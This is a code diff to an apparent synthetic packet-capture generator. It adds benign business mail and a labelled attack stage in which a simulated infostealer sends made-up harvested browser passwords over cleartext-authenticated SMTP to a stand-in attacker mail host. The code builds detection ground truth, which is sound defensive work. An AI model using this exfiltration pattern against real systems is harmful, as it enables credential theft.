@@ -9,6 +9,7 @@ byte-identical files. Standard library only.
 """
 
 import argparse
+import base64
 import bisect
 import datetime
 import ipaddress
@@ -26,7 +27,7 @@ import netpkt  # noqa: E402
 import protocols as P  # noqa: E402
 from netpkt import Net, TcpConn  # noqa: E402
 
-GENERATOR_VERSION = 1
+GENERATOR_VERSION = 2
 DEFAULT_START = "2024-03-04T08:00:00Z"
 
 SIZE_NAMES = ("tiny", "small", "medium", "large")
@@ -58,6 +59,7 @@ SIZE_TABLE = {
     "exfil_bytes": (16_000, 4_000_000, 25_000_000, 60_000_000),  # stage (e) upload
     "beacon_task_bytes": (600, 4000, 8000, 8000),  # stage (f) occasional larger response
     "tunnel_queries": (20, 300, 1000, 3000),  # stage (g)
+    "mail_rate": (6, 12, 20, 30),  # benign mails per hour (workstation -> relay -> partner MX)
 }
 SIZES = {name: {k: v[i] for k, v in SIZE_TABLE.items()} for i, name in enumerate(SIZE_NAMES)}
 
@@ -127,6 +129,15 @@ EXFIL_SNI = "files.sharebox-upload.example"
 TUNNEL_HOST = "10.20.5.88"
 TUNNEL_DOMAIN = "dataflux-cdn.example"
 VIOLATOR = "10.30.12.34"
+# Stage (i): an infostealer on a business workstation mails what it harvested to an outside
+# mailbox, logging in to the mail server in the clear. Benign mail: the business relay sends
+# to partners' MX hosts over STARTTLS; workstations hand their mail to the relay unencrypted.
+STEALER_HOST = "10.30.21.77"
+STEALER_NAME = "BIZ-WS-077"
+MAIL_EXFIL_IP = "203.0.113.25"
+MAIL_EXFIL_NAME = "mail.cheapmailhost.example"
+MAIL_RELAY = "10.30.0.25"
+PARTNER_MX = [("mx1.partner-lab.example", "198.18.77.25"), ("mx.supplier-one.example", "198.18.78.25")]
 LAUNCH_TARGET = "10.40.1.20"
 
 # Benign internet services: name -> (kind, ports). Addresses are assigned from 198.18.0.0/15.
@@ -435,6 +446,76 @@ class Scenario:
         return addr, t1 + self.distance(client_ip) + self.distance(resolver_ip)
 
     # ------------------------------------------------------------------ sessions
+    def smtp_session(self, t, cli, srv, server_name, helo, mail_from, rcpts, message, auth=None,
+                     starttls=False, port=25):
+        """One SMTP connection: greeting, EHLO (STARTTLS and AUTH offered), then either STARTTLS
+        and the mail inside TLS, or (optionally AUTH LOGIN and) one mail in the clear."""
+        rng = self.rng
+        c = self.tcp(t, cli, srv, port).handshake()
+        c.send(False, b"220 %s ESMTP ready\r\n" % server_name, think=rng.randint(2_000, 40_000))
+        caps = [b"250-" + server_name, b"250-SIZE 52428800", b"250-8BITMIME", b"250-PIPELINING",
+                b"250-AUTH PLAIN LOGIN", b"250-STARTTLS", b"250 HELP"]
+        c.exchange(b"EHLO %s\r\n" % helo, b"\r\n".join(caps) + b"\r\n", client_think=rng.randint(500, 5_000))
+        if starttls:
+            c.exchange(b"STARTTLS\r\n", b"220 2.0.0 Ready to start TLS\r\n")
+            hello, hs = P.tls_client_hello(rng, server_name.decode(), "curl")
+            c.exchange(hello, P.tls13_server_flight(rng, hs), server_think=rng.randint(200, 2000))
+            c.send(True, P.tls13_client_finish(rng), think=200, ack_last=False)
+            c.send(True, P.tls_app_data(rng, len(message) + 120), think=rng.randint(1_000, 20_000), ack_last=False)
+            c.send(False, P.tls_app_data(rng, 90), think=rng.randint(2_000, 60_000))
+            c.close(from_client=True, think=rng.randint(1_000, 10_000))
+            return c
+        if auth:
+            user, password = (base64.b64encode(x.encode()) for x in auth)
+            c.exchange(b"AUTH login " + user + b"\r\n", b"334 UGFzc3dvcmQ6\r\n")
+            c.exchange(password + b"\r\n", b"235 Authentication succeeded\r\n", server_think=rng.randint(5_000, 80_000))
+        c.exchange(b"MAIL FROM:<%s>\r\n" % mail_from.encode(), b"250 OK\r\n")
+        for r in rcpts:
+            c.exchange(b"RCPT TO:<%s>\r\n" % r.encode(), b"250 Accepted\r\n")
+        c.exchange(b"DATA\r\n", b'354 Enter message, ending with "." on a line by itself\r\n')
+        body = message.replace(b"\r\n.", b"\r\n..")
+        c.exchange(body + b"\r\n.\r\n", b"250 OK id=%06x\r\n" % rng.getrandbits(24), server_think=rng.randint(5_000, 90_000))
+        c.exchange(b"QUIT\r\n", b"221 closing connection\r\n")
+        c.close(from_client=False)
+        return c
+
+    def mail_message(self, t, mail_from, rcpt, subject, text):
+        date = P.http_date(t).replace("GMT", "+0000")
+        lines = [
+            "From: %s" % mail_from,
+            "To: %s" % rcpt,
+            "Date: %s" % date,
+            "Subject: %s" % subject,
+            "MIME-Version: 1.0",
+            "Content-Type: text/plain; charset=us-ascii",
+            "",
+        ] + text.split("\n")
+        return "\r\n".join(lines).encode()
+
+    def background_mail(self):
+        """Benign mail, generated after everything else so that adding it left the random draws
+        of the rest of the scenario unchanged."""
+        rng = self.rng
+        self.net.host(MAIL_RELAY, os="linux")
+        self.dns_db["relay.corp.example"] = [("A", MAIL_RELAY)]
+        self.internal_names.add("relay.corp.example")
+        for name, ip in PARTNER_MX:
+            self.dns_db[name] = [("A", ip)]
+        senders = self.business_ws[:]
+        for t in self.poisson_times(self.cfg["mail_rate"]):
+            ws = rng.choice(senders)
+            user = self.users.get(ws, "staff")
+            name, mx = rng.choice(PARTNER_MX)
+            rcpt = "%s@%s" % (rng.choice(FIRST_NAMES).lower(), name.split(".", 1)[1])
+            text = "\n".join("Status of order %d: shipped." % rng.randint(1000, 9999) for _ in range(rng.randint(5, 60)))
+            msg = self.mail_message(t, "%s@corp.example" % user, rcpt, "Order update", text)
+            _, t1 = self.lookup(t, ws, "relay.corp.example")
+            c = self.smtp_session(t1, ws, MAIL_RELAY, b"relay.corp.example", ("%s.corp.example" % user).encode(),
+                                  "%s@corp.example" % user, [rcpt], msg)
+            _, t2 = self.lookup(c.t + rng.randint(200_000, 3 * S), MAIL_RELAY, name)
+            self.smtp_session(t2, MAIL_RELAY, mx, name.encode(), b"relay.corp.example",
+                              "%s@corp.example" % user, [rcpt], msg, starttls=True)
+
     def tls_session(
         self,
         t,
@@ -1295,6 +1376,30 @@ class Scenario:
         c.syn_unanswered(retries=1)
         return {"syn": 2, "port": 22, "rule": "forbidden business -> launch_ops"}
 
+    def stage_mail_exfil(self):
+        rng = self.rng
+        self.net.host(STEALER_HOST, os="windows")
+        self.dns_db[MAIL_EXFIL_NAME] = [("A", MAIL_EXFIL_IP)]
+        addr, t = self.lookup(self.t_mail_exfil, STEALER_HOST, MAIL_EXFIL_NAME)
+        # What AgentTesla-like stealers send: the browsers' saved passwords as a small report.
+        # Every value here is made up.
+        report = "\n".join(
+            "Host: https://%s/ Username: %s Password: %s Application: %s"
+            % (site, user, "".join(rng.choice("abcdefghjkmnpqrstuvwxyz23456789") for _ in range(10)), app)
+            for site, user, app in [
+                ("intranet.corp.example", "bwright", "Chrome"),
+                ("webmail.corp.example", "bwright@corp.example", "Edge"),
+                ("portal.partner-lab.example", "b.wright", "Firefox"),
+            ]
+        )
+        msg = self.mail_message(t, "drop.box@cheapmailhost.example", "collect.point@freemail.example",
+                                "PW_bwright/%s" % STEALER_NAME, "Time: now\nUser Name: bwright\n" + report)
+        c = self.smtp_session(t, STEALER_HOST, addr, MAIL_EXFIL_NAME.encode(), STEALER_NAME.encode(),
+                              "drop.box@cheapmailhost.example", ["collect.point@freemail.example"], msg,
+                              auth=("drop.box@cheapmailhost.example", "s3ndm4il!"), port=587)
+        return {"bytes_out": c.bytes_c2s, "destination": MAIL_EXFIL_IP, "port": 587, "auth": "LOGIN",
+                "starttls_offered": True}
+
     def run(self):
         D = self.cfg["duration"] * S
         rng = self.rng
@@ -1425,6 +1530,23 @@ class Scenario:
             {"ip": [VIOLATOR, LAUNCH_TARGET]},
             self.stage_violation,
         )
+        # Added in generator version 2, after everything else so the traffic above kept its
+        # random draws: benign mail (background) and a stealer mailing its loot (stage i).
+        mail_start = len(self.net.frames)
+        self.background_mail()
+        mail_end = len(self.net.frames)
+        self.t_mail_exfil = self.start + int(0.35 * D) + rng.randint(0, 30 * S)
+        self.stage(
+            "i",
+            "mail_exfiltration",
+            "An infostealer on a business workstation logs in to an internet mail server in the "
+            "clear (AUTH LOGIN, STARTTLS offered and not used) and mails the passwords it harvested",
+            "exfiltration",
+            [],
+            ("TA0010", "T1048.003"),
+            {"ip": [STEALER_HOST, MAIL_EXFIL_IP], "domain": [MAIL_EXFIL_NAME]},
+            self.stage_mail_exfil,
+        )
         # Benign entities: background hosts that neither initiated attack traffic nor are named
         # in a stage. Scan targets stay benign: they only answered.
         initiators = set()
@@ -1436,7 +1558,7 @@ class Scenario:
                 if initiated(fr):
                     initiators.add(ip_str(fr[26:30]))
         seen = set()
-        for _, _, fr in self.net.frames[:bg_end]:
+        for _, _, fr in self.net.frames[:bg_end] + self.net.frames[mail_start:mail_end]:
             seen.add(ip_str(fr[26:30]))
             seen.add(ip_str(fr[30:34]))
         key = lambda ip: tuple(int(x) for x in ip.split("."))  # noqa: E731
